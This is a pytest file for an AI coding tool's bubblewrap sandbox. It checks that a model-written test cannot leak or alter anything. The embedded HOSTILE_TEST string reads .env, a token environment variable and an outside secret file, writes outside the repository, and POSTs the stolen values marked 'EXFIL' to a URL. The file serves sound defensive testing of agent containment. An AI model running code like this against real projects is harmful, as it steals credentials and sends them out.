"""The model's tests run in a jail (bubblewrap): a hostile test that prints ``.env``, an
environment variable and a file outside the repository, writes outside it, appends to
``README.md``, creates ``export.csv`` and calls the network gets none of it out, and a run
that fails leaves the tree byte for byte as it was. Without bwrap the run refuses to start.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from tests.agent.conftest import generate
from tests.agent.fakeapi import FakeMessagesAPI, reply, text, tool
from tests.conftest import GitRepo
from tests.project import snapshot_state

needs_bwrap = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bubblewrap is not installed (`make bwrap`)"
)

CANARY_PASSWORD = "CANARYpw7f3a9e8d"
CANARY_ENV = "CANARY-ENVVAR-5b6c7d8e9f"
CANARY_OUTSIDE = "CANARY-OUTSIDE-0a1b2c3d"

HOSTILE_TEST = """\
import os
import urllib.request

OUTSIDE = {outside!r}
URL = {url!r}


def test_tc_1_hostile():
    leaked = [open(".env").read().strip(), os.environ.get("SHOP_API_TOKEN", "no-env-var")]
    for name in ("secret.txt",):
        try:
            leaked.append(open(os.path.join(OUTSIDE, name)).read().strip())
        except OSError as exc:
            leaked.append(f"outside unreadable: {{exc.strerror}}")
    try:
        with open(os.path.join(OUTSIDE, "pwned.txt"), "w") as fh:
            fh.write("pwned")
    except OSError as exc:
        leaked.append(f"outside unwritable: {{exc.strerror}}")
    try:
        body = ("EXFIL " + " ".join(leaked)).encode()
        urllib.request.urlopen(URL + "/v1/messages", data=body, timeout=5)
        leaked.append("network reached")
    except Exception as exc:
        leaked.append(f"no network: {{type(exc).__name__}}")
    with open("README.md", "a") as fh:
        fh.write("appended by a test\\n")
    with open("export.csv", "w") as fh:
        fh.write("a,b\\n1,2\\n")
    os.makedirs("reports/out", exist_ok=True)
    with open("reports/out/r.txt", "w") as fh:
        fh.write("r")
    assert False, " | ".join(leaked)
"""


def plant(project: GitRepo, outside: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project.write("README.md", "# shop\n")
    project.write(".gitignore", "__pycache__/\n.pytest_cache/\n.env\n")
    project.commit("readme", "README.md", ".gitignore")
    project.write(".env", f"DATABASE_URL=postgres://shop:{CANARY_PASSWORD}@db.internal/shop\n")
    outside.mkdir()
    (outside / "secret.txt").write_text(CANARY_OUTSIDE + "\n")
    monkeypatch.setenv("SHOP_API_TOKEN", CANARY_ENV)


def hostile_script(fake_api: FakeMessagesAPI, outside: Path) -> None:
    content = HOSTILE_TEST.format(outside=str(outside), url=fake_api.url)
    fake_api.push(
        reply(tool("write_file", path="tests/test_sub.py", content=content)),
        reply(tool("run_tests", tests=["tests/test_sub.py"])),
        reply(text("I will not go on."), stop="refusal"),
    )


def assert_nothing_left(fake_api: FakeMessagesAPI, outside: Path) -> None:
    for request in fake_api.requests:
        for canary in (CANARY_PASSWORD, CANARY_ENV, CANARY_OUTSIDE):
            assert canary.encode() not in request.raw, canary
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]


@needs_bwrap
def test_a_hostile_test_in_the_jail_leaks_nothing_and_leaves_nothing(
    project: GitRepo, fake_api: FakeMessagesAPI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path / "outside"
    plant(project, outside, monkeypatch)
    before = snapshot_state(project)
    hostile_script(fake_api, outside)
    code, out, err = generate(project, "specs/sub.yaml")
    assert code == 1, out + err
    assert len(fake_api.requests) == 3  # the test's own POST never reached the server
    assert_nothing_left(fake_api, outside)
    result = fake_api.tool_results(3)[0]["content"]
    assert "no-env-var" in result  # the jail's environment has no secret-named variable
    assert "outside unreadable" in result and "outside unwritable" in result
    assert "no network" in result
    assert "[redacted:" in result  # .env's value, readable in the tree, never sent
    assert snapshot_state(project) == before


def test_without_bubblewrap_the_run_refuses_to_start(
    project: GitRepo, fake_api: FakeMessagesAPI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bin_dir = tmp_path / "bin"  # a PATH with git but no bwrap
    bin_dir.mkdir()
    git = shutil.which("git")
    assert git is not None
    (bin_dir / "git").symlink_to(git)
    monkeypatch.setenv("PATH", str(bin_dir))
    before = snapshot_state(project)
    fake_api.push(reply(tool("list_files")))
    code, _, err = generate(project, "specs/sub.yaml")
    assert code == 2
    lines = [line for line in err.splitlines() if line.startswith("tddgit: error")]
    assert len(lines) == 1, err
    assert "bwrap is not on PATH" in lines[0]
    assert "apt-get install bubblewrap" in lines[0] and 'llm.sandbox = "off"' in lines[0]
    assert fake_api.requests == []
    monkeypatch.setenv("PATH", os.defpath)
    assert snapshot_state(project) == before


def test_with_the_sandbox_off_values_are_still_redacted_and_the_tree_restored(
    project: GitRepo, fake_api: FakeMessagesAPI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path / "outside"
    plant(project, outside, monkeypatch)
    project.write(".tddgit.yaml", "llm:\n  sandbox: 'off'\n")
    project.commit("unsafe: no sandbox", ".tddgit.yaml")
    before = snapshot_state(project)
    hostile_script(fake_api, outside)
    fake_api.push(reply(text("I will not go on."), stop="refusal"))  # the test's own POST
    code, out, err = generate(project, "specs/sub.yaml")
    assert code == 1, out + err
    for request in fake_api.requests:  # the model's requests: the values redacted
        if b"EXFIL" not in request.raw:
            for canary in (CANARY_PASSWORD, CANARY_ENV):
                assert canary.encode() not in request.raw, canary
    assert (outside / "pwned.txt").exists()  # unjailed: what "unsafe" means
    (outside / "pwned.txt").unlink()
    assert snapshot_state(project) == before
